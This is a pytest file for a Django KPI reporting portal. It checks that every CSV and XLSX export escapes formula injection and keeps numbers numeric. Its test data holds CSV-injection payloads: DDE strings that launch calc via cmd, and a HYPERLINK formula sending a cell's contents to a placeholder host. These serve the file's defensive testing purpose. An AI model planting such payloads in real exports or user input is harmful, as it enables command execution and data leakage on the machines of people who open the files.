"""Formula injection: no text in any CSV or XLSX the portal writes starts a formula when a spreadsheet
opens it, and numbers stay numbers.

Every export goes through kpis.export.escape_formula: the dashboards' tables (national, block, region,
indicator, plan comparison), the submission board, a block's revisions, the model-region programme's
tables, the liaison meeting's pack and the KPI, target and actual files. The pages are crawled for
their download links, so an export added later is checked too.
"""

import contextlib
import csv
import datetime
import html
import io
import re
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.contrib.auth.models import User
from django.urls import NoReverseMatch, reverse
from django.utils import timezone
from django.utils.functional import lazy

from kpis.export import FORMULA_TRIGGERS, dataset_to_csv, dataset_to_xlsx, escape_formula, xlsx_cell
from kpis.models import Indicator
from regions.demo import create_demo_users
from regions.models import Block
from reports.progress.demo import open_demo_period

pytestmark = pytest.mark.django_db

# The texts a user could type that a spreadsheet would run, one per trigger (OWASP's list), as typed.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"詳細")',
    "+81-3-1234-5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# --- the one escaping function -------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_with_a_formula_character_gets_an_apostrophe(text):
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_trigger_is_escaped_alone_too(trigger):
    assert escape_formula(trigger) == "'" + trigger


@pytest.mark.parametrize(
    "value",
    [
        0,
        5,
        -5,
        -0.5,
        12.25,
        Decimal("-3"),
        Decimal("-0.5"),
        Decimal("95"),
        datetime.date(2022, 3, 31),
        None,
        True,
    ],
)
def test_numbers_negative_ones_too_dates_and_empty_cells_are_left_as_they_are(value):
    assert escape_formula(value) is value


@pytest.mark.parametrize(
    "text", ["神奈川県", "1-2月", "a=b", "メール@例", "R4.6", "", "—", "－全角のマイナス"]
)
def test_ordinary_text_is_left_alone(text):
    assert escape_formula(text) == text


def test_a_translatable_text_is_escaped_as_text():
    lazy_text = lazy(lambda: "=1+1", str)()

    assert escape_formula(lazy_text) == "'=1+1"
    assert xlsx_cell(lazy_text) == "'=1+1"


def test_a_control_character_before_a_formula_does_not_hide_it_in_xlsx():
    """XLSX cannot store control characters: they are dropped first, then the text is escaped."""
    assert xlsx_cell("\x01=1+1") == "'=1+1"
    assert xlsx_cell("\x00\x08@SUM(A1)") == "'@SUM(A1)"


def sample_dataset() -> tablib.Dataset:
    dataset = tablib.Dataset(headers=["text", "int", "negative", "decimal", "negative decimal", "date"])
    for text in FORMULAS:
        dataset.append([text, 3, -3, Decimal("1.5"), Decimal("-1.5"), datetime.date(2022, 4, 1)])
    return dataset


def test_the_csv_writer_escapes_text_and_writes_numbers_as_numbers():
    rows = list(csv.reader(io.StringIO(dataset_to_csv(sample_dataset()).decode("utf-8-sig"), newline="")))

    assert [row[0] for row in rows[1:]] == ["'" + text for text in FORMULAS]
    assert all(row[1:] == ["3", "-3", "1.5", "-1.5", "2022-04-01"] for row in rows[1:])


def test_the_xlsx_writer_escapes_text_and_keeps_numbers_numeric():
    sheet = openpyxl.load_workbook(io.BytesIO(dataset_to_xlsx(sample_dataset()))).active
    rows = list(sheet.iter_rows(min_row=2))

    # XLSX keeps no carriage return: it comes back as a line feed, still behind the apostrophe
    assert [row[0].value for row in rows] == ["'" + text.replace("\r", "\n") for text in FORMULAS]
    assert all(row[0].data_type == "s" for row in rows)
    for row in rows:
        assert [cell.value for cell in row[1:5]] == [3, -3, 1.5, -1.5]
        assert all(cell.data_type == "n" for cell in row[1:5])
        assert row[5].is_date
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


# --- every export of the portal ------------------------------------------------------------------------


@pytest.fixture
def planted(client):
    """Formula-like text in what users write that reaches the exports: a revision's reason and the KPI
    text it sets, a central KPI actual's note, a meeting's minutes."""
    create_demo_users()
    open_demo_period()
    indicator = Indicator.objects.filter(kpi__plan__number=2, kpi__region__code="14").order_by(
        "kpi__order", "order"
    )[0]
    client.force_login(User.objects.get(username="demo-bureau-kanto"))
    response = client.post(
        f"/kpis/{indicator.pk}/revise/",
        {"new_value": "9", "new_text": FORMULAS[1], "effective_fiscal_year": "2022", "reason": FORMULAS[0]},
    )
    assert response.status_code == 302
    share = Indicator.objects.get(kpi__plan__number=2, kpi__code="C09", code="1")
    client.force_login(User.objects.get(username="demo-jpo"))
    form = central_form(client, "/central/2/2022/fy/")
    form |= {f"value-{share.pk}": "30", f"note-{share.pk}": FORMULAS[3], "action": "confirm"}
    assert client.post("/central/2/2022/fy/", form).status_code == 302
    meeting = kanto_meeting()
    return {"indicator": indicator, "share": share, "meeting": meeting}


def central_form(client, url: str) -> dict:
    page = client.get(url).content.decode()
    data = {}
    for tag in re.findall(r"<input[^>]*>", page):
        name = re.search(r'name="([^"]+)"', tag)
        if name and re.match(r"(value|note|version)-", name.group(1)):
            value = re.search(r'value="([^"]*)"', tag)
            data[name.group(1)] = html.unescape(value.group(1)) if value else ""
    return data


def kanto_meeting():
    """The Kanto liaison meeting with formula-like minutes, where the meetings exist."""
    try:
        from reports.models import LiaisonMeeting
    except ImportError:
        return None
    return LiaisonMeeting.objects.create(
        block=Block.objects.get(code="kanto"),
        fiscal_year=2022,
        title="関東地域連絡会議",
        held_on=datetime.date(2022, 7, 15),
        as_of=timezone.now(),
        minutes=FORMULAS[2],
    )


def seed_pages(planted) -> list[str]:
    pages = [
        "/dashboard/2/",
        "/dashboard/2/blocks/kanto/",
        "/dashboard/2/regions/14/",
        f"/kpis/{planted['indicator'].pk}/",
        f"/kpis/{planted['share'].pk}/",
        "/dashboard/compare/",
        "/progress/status/",
        "/dashboard/2/blocks/kanto/revisions/",
    ]
    # the model-region programme's page, where it exists
    with contextlib.suppress(NoReverseMatch):
        pages.append(reverse("reports:programme", kwargs={"plan_number": 2024}))
    return pages


def export_links(client, page: str) -> list[str]:
    response = client.get(page)
    assert response.status_code == 200, page
    hrefs = re.findall(r'href="([^"]*_export=(?:csv|xlsx)[^"]*)"', response.content.decode())
    return [
        page.split("?")[0] + html.unescape(href) if href.startswith("?") else html.unescape(href)
        for href in hrefs
    ]


def one_region_table_per_page(links: list[str]) -> list[str]:
    """A page's per-region tables are one export with different rows: the first region stands for them
    (each costs the whole block's computation)."""
    kept, seen = [], set()
    for link in links:
        match = re.search(r"table=region-[^&]+", link)
        key = (link.split("?")[0], "_export=xlsx" in link) if match else link
        if key not in seen:
            seen.add(key)
            kept.append(link)
    return kept


def download_links(client, planted) -> list[str]:
    links = []
    for page in seed_pages(planted):
        links += one_region_table_per_page(export_links(client, page))
    if planted["meeting"] is not None:
        links.append(reverse("reports:meeting_pack_xlsx", kwargs={"pk": planted["meeting"].pk}))
    return list(dict.fromkeys(links))


def unescaped_formula(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def csv_texts(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def xlsx_cells(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_no_export_of_the_portal_holds_a_cell_a_spreadsheet_would_run(client, planted):
    client.force_login(User.objects.get(username="demo-jpo"))
    links = download_links(client, planted)
    assert len(links) >= 30, links  # every kind of table of every page, in both formats

    escaped_seen: set[str] = set()
    all_texts: list[str] = []
    for link in links:
        response = client.get(link)
        assert response.status_code == 200, link
        if link.endswith(".xlsx") or "_export=xlsx" in link:
            cells = xlsx_cells(response.content)
            assert not any(cell.data_type == "f" for cell in cells), link
            texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        else:
            texts = csv_texts(response.content)
        assert not [text for text in texts if unescaped_formula(text)], link
        escaped_seen |= {text for text in texts if text.startswith("'")}
        all_texts += texts

    # the planted texts did reach the exports: escaped where they start a cell
    planted_starts = [FORMULAS[0], FORMULAS[1]] + ([FORMULAS[2]] if planted["meeting"] else [])
    for text in planted_starts:
        assert "'" + text in escaped_seen, text
    # the note is shown after its period ("年度: …"), so it starts nothing
    assert any(text.endswith(FORMULAS[3]) and not unescaped_formula(text) for text in all_texts)


def test_numbers_in_the_exports_stay_numbers(client, planted):
    """The block's indicator table: targets, actuals and rates are numeric cells, never text."""
    client.force_login(User.objects.get(username="demo-viewer"))
    response = client.get("/dashboard/2/blocks/kanto/?fiscal_year=2022&_export=xlsx&table=indicators")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    numeric = [header.index(name) for name in ("目標", "年度実績", "達成率") if name in header]
    assert numeric, header
    values = [row[index] for row in sheet.iter_rows(min_row=2) for index in numeric]
    filled = [cell for cell in values if cell.value not in (None, "")]
    assert filled and all(cell.data_type == "n" for cell in filled)
